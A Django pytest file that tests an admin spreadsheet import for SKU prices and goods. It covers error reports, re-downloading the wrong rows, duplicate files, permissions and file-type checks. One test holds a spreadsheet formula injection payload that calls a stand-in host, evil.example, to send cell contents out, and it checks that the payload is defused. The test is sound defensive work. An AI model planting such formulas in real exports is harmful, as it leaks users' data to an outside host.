import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import strip_tags
from python_calamine import CalamineWorkbook

from catalog.models import Sku, SkuPrice
from shop.common.models import ImportJob
from shop.common.services.import_runs import work_on_import
from tests.cast import grant
from tests.catalog.imports import csv_of
from tests.factories.catalog import SkuFactory

pytestmark = pytest.mark.usefixtures("private_files")
LIST = reverse("admin:common_importjob_changelist")
UPLOAD = reverse("admin:common_importjob_upload", args=["catalog.prices"])
SHEET = csv_of(("SKU编码", "售价", "颜色"), ("T-1", "45.00", ""), ("T-2", "45.00", ""))


@pytest.fixture
def sku(db):
    return SkuFactory(code="T-1", price="50.00")


def upload(client, content=SHEET, **fields):
    return client.post(UPLOAD, {"file": SimpleUploadedFile("价格.csv", content)} | fields)


def step(client, job, name):
    return client.post(reverse("admin:common_importjob_step", args=[job.pk, name]))


def page(client, job):
    return client.get(reverse("admin:common_importjob_change", args=[job.pk])).text


def test_a_file_goes_from_upload_over_the_report_to_the_result(clerk_client, clerk, sku):
    answer = upload(clerk_client)
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)
    report = page(clerk_client, job)
    step(clerk_client, job, "begin")
    work_on_import(job_id=job.pk)

    job.refresh_from_db()
    assert answer.url == reverse("admin:common_importjob_change", args=[job.pk])
    assert "There is no SKU with this code." in report
    assert "Column not known, left out: 颜色" in report
    assert "Import 1 row" in report
    assert (job.state, job.updated_count, job.wrong_count) == ("done", 1, 1)
    assert job.actor_user_id == clerk.pk
    assert "45.00" in [str(price.amount) for price in SkuPrice.objects.filter(sku=sku)]
    assert "1 changed, 1 wrong" in clerk_client.get(LIST).text


def test_the_rows_to_mend_come_back_with_their_reason(clerk_client, sku):
    upload(clerk_client)
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    content = clerk_client.get(reverse("admin:common_importjob_errors", args=[job.pk])).getvalue()

    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert rows == [
        ["SKU编码", "售价", "颜色", "What is wrong"],
        ["T-2", "45.00", "", "SKU code: There is no SKU with this code."],
    ]


def test_a_formula_in_a_wrong_row_is_not_run_when_it_comes_back(clerk_client, sku):
    trap = '=HYPERLINK("http://evil.example?"&A1)'
    upload(
        clerk_client, csv_of(("SKU编码", "售价", trap), (trap, "45.00", "+1"), ("@SUM", "-", ""))
    )
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    content = clerk_client.get(reverse("admin:common_importjob_errors", args=[job.pk])).getvalue()

    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert book.get_sheet_by_index(0).to_python() == [
        ["SKU编码", "售价", f"'{trap}", "What is wrong"],
        [f"'{trap}", "45.00", "'+1", "SKU code: There is no SKU with this code."],
        ["'@SUM", "'-", "", "Selling price: A number."],
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_what_is_wrong_most_often_is_said_first(clerk_client, sku):
    rows = [(f"N-{number}", "免费") for number in range(60)]
    upload(clerk_client, csv_of(("SKU编码", "售价"), *rows))
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    words = " ".join(strip_tags(page(clerk_client, job)).split())

    assert "What is wrong most often 60 × Selling price 免费 A number." in words


def test_the_mended_file_is_uploaded_with_the_same_decisions(clerk_client, sku):
    goods = reverse("admin:common_importjob_upload", args=["catalog.goods"])
    kind = sku.product.product_type.name
    wrong = SimpleUploadedFile("g.csv", csv_of(("SKU编码", "售价"), ("T-9", "免费")))
    clerk_client.post(goods, {"file": wrong, "product_type": kind})
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    link = f"{goods}?like={job.pk}"

    assert f'href="{link}"' in page(clerk_client, job)
    assert clerk_client.get(link).context["form"]["product_type"].value() == kind
    assert clerk_client.get(goods).context["form"]["product_type"].value() is None


def test_headings_without_rows_are_refused_in_words(clerk_client, sku):
    upload(clerk_client, csv_of(("SKU编码", "售价")))
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    assert "There are no rows below the headings." in page(clerk_client, job)
    assert ImportJob.objects.get().state == "failed"


def test_the_same_file_is_answered_and_not_imported_twice(clerk_client, sku):
    upload(clerk_client)
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)
    step(clerk_client, job, "begin")
    work_on_import(job_id=job.pk)

    again = upload(clerk_client)

    assert "This very file was imported already" in again.text
    assert ImportJob.objects.count() == 1
    assert upload(clerk_client, again="on").status_code == 302
    assert ImportJob.objects.count() == 2


def test_a_waiting_import_is_stopped_and_goes_on_where_it_was(clerk_client, sku):
    upload(clerk_client)
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)
    step(clerk_client, job, "begin")

    step(clerk_client, job, "stop")
    work_on_import(job_id=job.pk)
    stopped = ImportJob.objects.get().state
    step(clerk_client, job, "begin")
    work_on_import(job_id=job.pk)

    assert (stopped, ImportJob.objects.get().state) == ("stopped", "done")


@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n\0\0", b"%PDF-1.7", b"MZ\0\0"])
def test_what_is_no_sheet_is_refused_by_its_content(clerk_client, content):
    upload(clerk_client, content)
    job = ImportJob.objects.get()
    work_on_import(job_id=job.pk)

    assert "neither an Excel workbook" in page(clerk_client, job)
    assert ImportJob.objects.get().state == "failed"


def test_each_import_asks_for_its_own_right(client, powerless_staff, sku):
    client.force_login(powerless_staff, backend="customers.backends.IdentityBackend")
    refused = [client.get(UPLOAD).status_code, client.get(LIST).status_code]
    grant(powerless_staff, "catalog.change_skuprice")
    powerless_staff = type(powerless_staff).objects.get(pk=powerless_staff.pk)
    client.force_login(powerless_staff, backend="customers.backends.IdentityBackend")

    assert refused == [403, 403]
    assert client.get(UPLOAD).status_code == 200
    goods = reverse("admin:common_importjob_upload", args=["catalog.goods"])
    assert client.get(goods).status_code == 403
    job = ImportJob.objects.create(kind="catalog.goods", file_name="x.csv", file_hash="0")
    assert client.get(reverse("admin:common_importjob_file", args=[job.pk])).status_code == 404
    assert Sku.objects.count() == 1


def test_the_template_has_headings_offers_and_explanations(clerk_client, sku):
    answer = clerk_client.get(reverse("admin:common_importjob_template", args=["catalog.goods"]))

    book = CalamineWorkbook.from_filelike(io.BytesIO(answer.getvalue()))
    assert book.sheet_names == ["Data", "Explanations", "Lists"]
    assert "SKU code" in book.get_sheet_by_index(0).to_python()[0]
    assert sku.product.product_type.name in str(book.get_sheet_by_index(2).to_python())


def test_failed_imports_stand_on_the_work_list(clerk_client):
    upload(clerk_client, b"%PDF-1.7")
    work_on_import(job_id=ImportJob.objects.get().pk)

    assert "Imports that failed" in clerk_client.get(reverse("admin:index")).text
